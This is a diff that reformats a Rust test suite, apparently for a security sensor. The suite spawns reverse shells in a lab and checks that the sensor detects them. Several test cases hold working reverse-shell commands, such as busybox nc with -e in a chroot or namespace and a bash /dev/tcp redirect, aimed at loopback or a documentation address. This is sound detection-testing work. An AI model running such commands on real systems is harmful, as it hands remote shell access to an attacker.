@@ -14,7 +14,11 @@ use sensor_tests::{
     suite::Case,
 };
 
-const COMMAND: Want = Want { severity: "MEDIUM", direction: "outbound", technique: "remote_command" };
+const COMMAND: Want = Want {
+    severity: "MEDIUM",
+    direction: "outbound",
+    technique: "remote_command",
+};
 
 /// A tree that holds nothing but a busybox, as small images do: as a file `/opt/tools/ash` and as a link `/bin/sh`.
 fn image(lab: &Lab<'_>) -> Result<PathBuf> {
@@ -33,12 +37,18 @@ fn contained(lab: &Lab<'_>, script: &str, path: &str) -> Result<()> {
     let listener = Listener::tcp(V4)?;
     let root = image(lab)?;
     let port = listener.port()?.to_string();
-    lab.bash(script, &[("H", "127.0.0.1"), ("P", &port), ("ROOT", &root.to_string_lossy())])?;
+    lab.bash(
+        script,
+        &[("H", "127.0.0.1"), ("P", &port), ("ROOT", &root.to_string_lossy())],
+    )?;
     let mut peer = listener.accept()?;
     peer.id()?;
     let finding = lab.finding(peer.ends(), REVERSE)?;
     let processes = finding.processes()?;
-    ensure!(processes.first().is_some_and(|shell| shell.path == path), "the shell's path is not {path}: {finding}");
+    ensure!(
+        processes.first().is_some_and(|shell| shell.path == path),
+        "the shell's path is not {path}: {finding}"
+    );
     peer.send("exit\n")?;
     lab.ended(&finding)?;
     Ok(())
@@ -49,7 +59,9 @@ fn remote(lab: &Lab<'_>, script: &str) -> Result<Peer> {
     let network = Network::new(lab)?;
     let listener = network.listener()?;
     let mut bash = network.command(lab, "bash")?;
-    bash.args(["-c", script]).env("H", "198.51.100.1").env("P", listener.port()?.to_string());
+    bash.args(["-c", script])
+        .env("H", "198.51.100.1")
+        .env("P", listener.port()?.to_string());
     lab.spawn(&mut bash)?;
     listener.accept()
 }
@@ -70,7 +82,11 @@ fn two_shells(lab: &Lab<'_>) -> Result<()> {
         lab.same(&finding, shell)?;
         findings.push(finding);
     }
-    ensure!(findings.iter().any(|finding| finding.id() != findings.first().map_or("", |first| first.id())));
+    ensure!(
+        findings
+            .iter()
+            .any(|finding| finding.id() != findings.first().map_or("", |first| first.id()))
+    );
     for ((_, mut peer), finding) in shells.into_iter().zip(&findings) {
         peer.send("exit\n")?;
         lab.ended(finding)?;
@@ -82,10 +98,18 @@ pub fn cases() -> Vec<Case> {
     vec![
         Case::new("places::two_shells_at_once", &["bash"], two_shells),
         Case::new("places::chroot", &["busybox", "chroot"], |lab| {
-            contained(lab, "chroot $ROOT /bin/busybox nc $H $P -e /opt/tools/ash", "/opt/tools/ash")
+            contained(
+                lab,
+                "chroot $ROOT /bin/busybox nc $H $P -e /opt/tools/ash",
+                "/opt/tools/ash",
+            )
         }),
         Case::new("places::chroot_through_a_link", &["busybox", "chroot"], |lab| {
-            contained(lab, "exec chroot $ROOT /bin/busybox nc $H $P -e /bin/sh", "/bin/busybox")
+            contained(
+                lab,
+                "exec chroot $ROOT /bin/busybox nc $H $P -e /bin/sh",
+                "/bin/busybox",
+            )
         }),
         Case::new("places::mount_namespace_and_chroot", &["busybox", "unshare"], |lab| {
             let script = "exec unshare --mount --pid --fork --root=$ROOT /bin/busybox nc $H $P -e /opt/tools/ash";
@@ -110,7 +134,10 @@ pub fn cases() -> Vec<Case> {
             lab.reverse(script)
         }),
         Case::new("places::peer_that_is_not_loopback", &["ip", "nsenter"], |lab| {
-            lab.taken(remote(lab, "exec 3<>/dev/tcp/$H/$P; bash -i <&3 >&3 2>&3; true")?, REVERSE)
+            lab.taken(
+                remote(lab, "exec 3<>/dev/tcp/$H/$P; bash -i <&3 >&3 2>&3; true")?,
+                REVERSE,
+            )
         }),
         // No command interpreter, but its whole conversation is with a stranger.
         Case::new("places::command_on_a_connection", &["ip", "nsenter"], |lab| {
@@ -135,7 +162,11 @@ pub fn cases() -> Vec<Case> {
             peer.send("cd sub; ./gone; ../sub/./gone; rm gone; exit\n")?;
             let last = lab.ended(&finding)?;
             let path = lab.path("sub/gone").to_string_lossy().into_owned();
-            let found = last.processes()?.into_iter().filter(|process| process.path == path).count();
+            let found = last
+                .processes()?
+                .into_iter()
+                .filter(|process| process.path == path)
+                .count();
             ensure!(found == 2, "{found} of 2 processes have the path {path}: {last}");
             Ok(())
         }),
@@ -149,7 +180,10 @@ pub fn cases() -> Vec<Case> {
             let finding = lab.finding(peer.ends(), REVERSE)?;
             let shell = finding.processes()?.into_iter().next();
             let path = relsh.to_string_lossy();
-            ensure!(shell.is_some_and(|shell| shell.path == path), "the shell's path is not {path}: {finding}");
+            ensure!(
+                shell.is_some_and(|shell| shell.path == path),
+                "the shell's path is not {path}: {finding}"
+            );
             lab.ended(&finding)?;
             Ok(())
         }),
